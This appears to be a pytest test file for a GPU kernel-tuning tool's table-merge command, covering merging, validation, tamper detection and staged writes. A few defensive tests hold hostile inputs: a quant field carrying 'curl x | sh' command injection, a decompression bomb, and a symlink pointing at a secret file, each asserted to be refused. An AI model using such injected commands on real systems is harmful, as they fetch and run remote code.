"""``tuner sweep merge``: exported tables over disjoint cells joined into one folder with one upstream.patch,
and ``tuner validate`` of the merged folder (parts, join, re-render, lookup), on fake timings."""

from __future__ import annotations

import lzma
import shutil
import sqlite3
import types
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.unit.sweep.test_sweep_confirm import NE4, SHAPE, SM90, FakeBench, _sweep_dir, passing_check
from tests.unit.sweep.test_sweep_export import _confirmed, _fake_source, _mmq_dir
from tuner._compat import tomllib
from tuner.cli.export_cmd import validate
from tuner.cli.sweep_cmd import sweep
from tuner.errors import TunerError
from tuner.sweep import confirm
from tuner.sweep.merge import _op_text
from tuner.sweep.table_check import find_tables, validate_table

DECODE = "D64 gqa4 f16 ne1 1, n_kv in [16384, inf) -> MMA"
BATCH = "D64 gqa4 f16 ne1 4, n_kv in [16384, inf) -> VEC"


def _invoke(*args: str) -> tuple[int, str]:
    """Exit code and output as `tuner` gives them (a TunerError: its exit code, 2 for bad input, and message)."""
    res = CliRunner().invoke(sweep, list(args), standalone_mode=False)
    if isinstance(res.exception, TunerError):
        return res.exception.exit_code, str(res.exception)
    assert res.exception is None, res.exception
    return res.exit_code, res.output


def _exported(tmp: Path, name: str, *, only: list, measured_on: str = "GPU X", mmq: bool = False) -> Path:
    """A sweep of ``only``'s shapes, confirmed on fake timings (10% faster where the table changes a model) and
    exported to results/sm_90/<name>."""
    sweep_dir = _sweep_dir(tmp, only=only, name=f"sweep-{name}")
    mdir = _mmq_dir(tmp) if mmq else None
    cdir = _confirmed(tmp, sweep_dir=sweep_dir, mmq_dir=mdir, bench=FakeBench(gain=1.10, batch_gain=1.10))
    out = tmp / "results" / "sm_90" / name
    args = ["export", str(cdir), "-o", str(out), "--measured-on", measured_on]
    code, text = _invoke(*args, *(["--mmq", str(mdir)] if mdir else []))
    assert code == 0, text
    return out


def _failed(folder: Path) -> dict[str, str]:
    return {f.check: f.detail for f in validate_table(folder).findings if not f.ok}


@pytest.fixture
def two(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    _fake_source(tmp_path, monkeypatch)
    return _exported(tmp_path, "decode", only=[SHAPE], mmq=True), _exported(tmp_path, "batch", only=[NE4])


def test_two_tables_merge_into_one_patch_that_validates(tmp_path: Path, two: tuple[Path, Path]) -> None:
    out = tmp_path / "results" / "sm_90" / "merged"
    code, text = _invoke("merge", *map(str, two), "-o", str(out))
    assert code == 0, text
    assert "2 tables merged: 2 FlashAttention entr(ies)" in text
    m = tomllib.loads((out / "table.toml").read_text())
    assert m["kind"] == "merged sweep table" and m["table"]["fa_rules"] == [DECODE, BATCH]
    assert [p["name"] for p in m["parts"]] == ["decode", "batch"]
    patch = (out / "upstream.patch").read_text()
    assert "{  64, 4, GGML_TYPE_F16,  1,  16384,     -1, BEST_FATTN_KERNEL_MMA_F16}," in patch
    assert "{  64, 4, GGML_TYPE_F16,  4,  16384,     -1, BEST_FATTN_KERNEL_VEC}," in patch
    assert patch.count("struct ggml_cuda_fattn_kernel_choice {") == 1  # one table, not two patches stacked
    assert (out / "parts/batch/plots/fa-D64-ne1-4.png").stat().st_size > 0  # a plot per query batch too
    pr = (out / "PR.md").read_text()
    # PR.md: the entries with each GPU model's verdict, a compare table per model, the commands, one line a check
    assert pr.startswith("# CUDA: FlashAttention kernel selection for sm_90, measured on GPU X")
    assert f"| `{DECODE}` | faster |" in pr and f"| `{BATCH}` | faster |" in pr
    assert "\n## GPU X\n" in pr and "| tg128@d16384 |" in pr and "| pp4@d32768   |" in pr
    assert (
        "tuner sweep confirm decode/fa --mmq decode/mmq --like llama-3.2-1b --like qwen2.5-7b --depths 0,16384,32768 "
        "--rounds 4 -o decode/confirm" in pr
    )
    assert "- test-backend-ops on GPU X" in pr and "- Output equivalence on GPU X" in pr and "docs/sweep.md" in pr
    # everything else in report.md
    report = (out / "report.md").read_text()
    assert "The table joins 2 sweeps" in report and "##### decode" in report and f"- {DECODE}:" in report
    check = validate_table(out)
    assert check.ok, [f for f in check.findings if not f.ok]
    names = {f.check for f in check.findings}
    assert {"part decode", "part batch", "recomposed from the parts", "re-render", "upstream.patch applies"} <= names
    # the parts are checked inside the merged table, not again on their own; the two exports beside it are
    assert sorted(p.name for p in find_tables([tmp_path / "results"])) == ["batch", "decode", "merged"]
    res = CliRunner().invoke(validate, [str(out)])
    assert res.exit_code == 0 and "1 passed, 0 failed" in res.output, res.output
    code, text = _invoke("merge", *map(str, two), "-o", str(out))  # over its own earlier merge
    assert code == 0, text


def _on_other_gpu(
    tmp: Path, sweep_dir: Path, *, gain: float, device: str = "GPU Y", mmq_dir: Path | None = None
) -> Path:
    """``tuner sweep confirm`` of ``sweep_dir``'s table run on another GPU model (its store names it), on fake
    timings: the table's candidate ``gain`` x upstream where it acts."""
    table = confirm.load_table(sweep_dir, mmq_dir)
    out = tmp / f"confirm-{device.lower().replace(' ', '-')}-{sweep_dir.name}"
    ident = {"build": "/b", "table": confirm.table_id(table), "device": device, "arch": "sm_90"}
    store = confirm.ConfirmStore(out / "confirm.sqlite3", ident)
    bench = FakeBench(gain=gain, batch_gain=gain)
    try:
        confirm.confirm_models(
            table, ["llama-3.2-1b", "qwen2.5-7b"], depths=(0, 16384, 32768), rounds=4, store=store,
            model_for=lambda like: tmp / f"{like}.gguf",
            joint_for=lambda path, plan_: setattr(bench, "batch", plan_.batch) or bench,
            gate=lambda p, path: confirm.gate_model(
                p, path, path, arch=SM90, era="mma", store=store, work_dir=tmp, run_one=passing_check
            ),
            weight_types_of=lambda path: ["Q4_K", "Q6_K", "F32"], era="mma",
        )  # fmt: skip
    finally:
        store.close()
    return out


def test_another_gpu_models_confirmation_joins_the_merge_beside_the_first(
    tmp_path: Path, two: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    decode, batch = two
    agree = _on_other_gpu(tmp_path, tmp_path / "sweep-decode", gain=1.2, mmq_dir=tmp_path / "mmq")
    disagree = _on_other_gpu(tmp_path, tmp_path / "sweep-batch", gain=0.8)
    out = tmp_path / "merged"
    code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(agree), "--gpu", str(disagree), "-o", str(out))
    assert code == 0, text
    m = tomllib.loads((out / "table.toml").read_text())
    # faster on both models: patched on the arch alone; faster on GPU X, slower on GPU Y: dropped
    assert m["table"]["fa_rules"] == [DECODE]
    assert any(r.startswith(f"{BATCH}: GPU models disagree (GPU X: faster") for r in m["table"]["reported"])
    assert [(g["device"], g["part"]) for g in m["gpus"]] == [("GPU Y", "decode"), ("GPU Y", "batch")]
    for g in m["gpus"]:
        assert (out / "gpus" / "gpu-y" / g["name"] / "confirm.sqlite3.xz").is_file()
        assert (out / "gpus" / "gpu-y" / g["name"] / "e2e.md").is_file()
    assert "{  64, 4, GGML_TYPE_F16,  4," not in (out / "upstream.patch").read_text()
    pr = (out / "PR.md").read_text()
    assert "measured on GPU X and GPU Y" in pr and f"| `{DECODE}` | faster | faster |" in pr
    assert f"- `{BATCH}`: GPU models disagree" in pr and "\n## GPU Y\n" in pr
    check = validate_table(out)
    assert check.ok, [f for f in check.findings if not f.ok]
    assert {"gpu " + g["name"] for g in m["gpus"]} <= {f.check for f in check.findings}
    # another model's store edited after the merge: its hash no longer matches, nothing is recomposed from it
    store = out / "gpus" / "gpu-y" / m["gpus"][0]["name"] / "confirm.sqlite3.xz"
    store.write_bytes(store.read_bytes()[:-8])
    assert "recorded" in _failed(out)[f"gpu {m['gpus'][0]['name']}"]
    # a --gpu folder is read as data: a compressed store that expands past the evidence cap is refused, a folder
    # name that cannot be gpus/<model>/<name> too, and nothing is written
    from tuner.sweep import export

    bomb = tmp_path / "bomb"
    bomb.mkdir()
    (bomb / "confirm.sqlite3.xz").write_bytes(lzma.compress(b"\0" * (8 << 20)))  # 8 MiB from about 1 KiB
    cap = export.MAX_EVIDENCE_BYTES
    monkeypatch.setattr(export, "MAX_EVIDENCE_BYTES", 4 << 20)  # above the parts' stores, below the bomb
    code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(bomb), "-o", str(tmp_path / "m7"))
    assert code == 2 and f"{bomb}/confirm.sqlite3.xz decompresses to more than 4 MiB" in text, text
    assert not (tmp_path / "m7").exists()
    monkeypatch.setattr(export, "MAX_EVIDENCE_BYTES", cap)  # (undo() would also drop the fixture's fake source)
    spaced = tmp_path / "my store"
    shutil.copytree(agree, spaced)
    code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(spaced), "-o", str(tmp_path / "m8"))
    assert code == 2 and "cannot name gpus/<model>/<name>" in text and not (tmp_path / "m8").exists()
    # a store's recorded identity is printed into PR.md's commands: a type that is no llama-quantize type is refused
    evil = tmp_path / "evil"
    shutil.copytree(agree, evil)
    with sqlite3.connect(evil / "confirm.sqlite3") as db:
        db.execute("INSERT OR REPLACE INTO meta VALUES ('quant', 'Q4_K_M; curl x | sh')")
    code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(evil), "-o", str(tmp_path / "m6"))
    assert code == 2 and "Unknown quant type" in text and not (tmp_path / "m6").exists()
    # the first model's own confirmation is not another model's evidence
    code, text = _invoke(
        "merge",
        str(decode),
        str(batch),
        "--gpu",
        str(tmp_path / "sweep-decode" / "confirm"),
        "-o",
        str(tmp_path / "m9"),
    )
    assert code == 2 and "records no GPU model" in text


def test_tampering_with_a_merged_table_fails(tmp_path: Path, two: tuple[Path, Path]) -> None:
    out = tmp_path / "merged"
    assert _invoke("merge", *map(str, two), "-o", str(out))[0] == 0
    part = out / "parts" / "batch" / "table.toml"
    kept = part.read_text()
    part.write_text(kept.replace('measured_on = "GPU X"', 'measured_on = "GPU Y"'))
    assert "replaced part" in _failed(out)["part batch"]
    part.write_text(kept)
    manifest = out / "table.toml"
    text = manifest.read_text()
    manifest.write_text(text.replace(f'    "{BATCH}",\n', ""))
    assert "the parts give" in _failed(out)["recomposed from the parts"]
    manifest.write_text(text.replace('name = "batch"', 'name = "../batch"'))
    assert "plain folder name" in _failed(out)["schema"]
    manifest.write_text(text)
    (out / "upstream.patch").write_text((out / "upstream.patch").read_text().replace("VEC}", "TILE}"))
    assert "patch hash" in _failed(out)


def test_tables_that_do_not_join_are_refused(tmp_path: Path, two: tuple[Path, Path]) -> None:
    decode, batch = two
    code, text = _invoke("merge", str(decode), str(decode), "-o", str(tmp_path / "m1"))
    assert code == 2 and "share a folder name" in text
    copy = tmp_path / "other" / "decode-again"
    copy.parent.mkdir()
    shutil.copytree(decode, copy)
    code, text = _invoke("merge", str(decode), str(copy), "-o", str(tmp_path / "m2"))
    assert code == 2 and "disjoint cells" in text and not (tmp_path / "m2").exists()
    other = _exported(tmp_path, "batch-elsewhere", only=[NE4], measured_on="GPU Z")
    code, text = _invoke("merge", str(decode), str(other), "-o", str(tmp_path / "m3"))
    assert code == 2 and "different devices" in text and "GPU Z" in text
    spaced = tmp_path / "my table"
    shutil.copytree(batch, spaced)
    code, text = _invoke("merge", str(decode), str(spaced), "-o", str(tmp_path / "m5"))
    assert code == 2 and "cannot name a part" in text
    code, text = _invoke("merge", str(decode), "-o", str(tmp_path / "m4"))
    assert code == 2 and "two or more" in text
    code, text = _invoke("merge", str(decode), str(batch), "-o", str(decode))
    assert code == 2 and "one of the tables to merge" in text
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "notes.txt").write_text("mine")
    code, text = _invoke("merge", str(decode), str(batch), "-o", str(tmp_path / "busy"))
    assert code == 2 and "not an earlier merged table" in text
    assert (tmp_path / "busy" / "notes.txt").read_text() == "mine"


def test_an_mmq_type_with_choices_in_two_tables_is_refused() -> None:
    """Two tables over disjoint FlashAttention cells that both chose for q5_K: one MMQ condition cannot hold both."""
    from tuner.errors import UsageError
    from tuner.sweep import merge
    from tuner.sweep.mmq import MmqChoice

    def part(name: str, lo: int) -> merge.Part:
        choice = MmqChoice(type="q5_K", lo=lo, hi=None, backend="BLAS")
        table = types.SimpleNamespace(cells=(), mmq=(choice,), arch=None)
        ev = types.SimpleNamespace(table=table, confirmed=types.SimpleNamespace(kept_rules=[], kept_mmq=[choice]))
        m = {"source": {"source_id": "s"}, "target": {"arch": "sm_90", "measured_on": "GPU X"}}
        return merge.Part(name=name, folder=Path(name), manifest=m, evidence=ev, backend_ops=())  # type: ignore[arg-type]

    with pytest.raises(UsageError, match="a and b both have MMQ choices for q5_K"):
        merge.merged_view([part("a", 2048), part("b", 1024)])


def test_merge_is_staged_beside_o_and_refuses_a_link_in_a_part(tmp_path: Path, two: tuple[Path, Path]) -> None:
    out = tmp_path / "results" / "sm_90" / "merged"
    dead = out.parent / ".merged.old-abcd1234"  # a killed merge's moved-aside folder, -o still in place
    (dead / "x").mkdir(parents=True)
    code, text = _invoke("merge", *map(str, two), "-o", str(out))
    assert code == 0, text
    assert not dead.exists() and (out / "table.toml").is_file()
    secret = tmp_path / "secret.txt"
    secret.write_text("not part of any table")
    (two[1] / "notes.md").symlink_to(secret)  # copied, it would put the file it points at into the merge
    code, text = _invoke("merge", *map(str, two), "-o", str(out))
    assert code == 2 and "notes.md is a link" in text, text
    assert not any("not part of any table" in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())


def test_a_merge_whose_writing_fails_leaves_the_previous_merge_intact(
    tmp_path: Path, two: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The parts are copied into the staging folder first; a full disk on a later file must not reach -o.
    import errno

    from tuner.sweep import merge

    out = tmp_path / "results" / "sm_90" / "merged"
    code, text = _invoke("merge", *map(str, two), "-o", str(out))
    assert code == 0, text
    before = {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}

    def disk_full(parts: object) -> str:
        raise OSError(errno.ENOSPC, "No space left on device", "report.md")

    monkeypatch.setattr(merge, "_report", disk_full)
    with pytest.raises(OSError, match="No space left"):
        merge.merge_tables(list(reversed(two)), out)
    after = {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}
    assert after == before and sorted(p.name for p in out.parent.iterdir()) == sorted(
        ["merged", *(f.name for f in two)]
    )


def test_the_merged_pr_names_the_head_sizes_a_stored_test_backend_ops_run_covered() -> None:
    # A run stored before a D256 entry was kept covers only 64 and 128: PR.md must not let it stand for 256.
    fa = {"op": "FLASH_ATTN_EXT", "passed": True, "summary": "769/769 tests passed"}
    fa["params"] = "(hsk=64,hsv=64,.*type_K=f16,type_V=f16,)|(hsk=128,hsv=128,.*type_K=f16,type_V=f16,)"
    assert _op_text(fa) == "FLASH_ATTN_EXT PASS (769/769 tests passed; head sizes 64, 128)"
    mm = {"op": "MUL_MAT", "passed": False, "summary": "3/4 tests passed", "params": None}
    assert _op_text(mm) == "MUL_MAT FAIL (3/4 tests passed)"
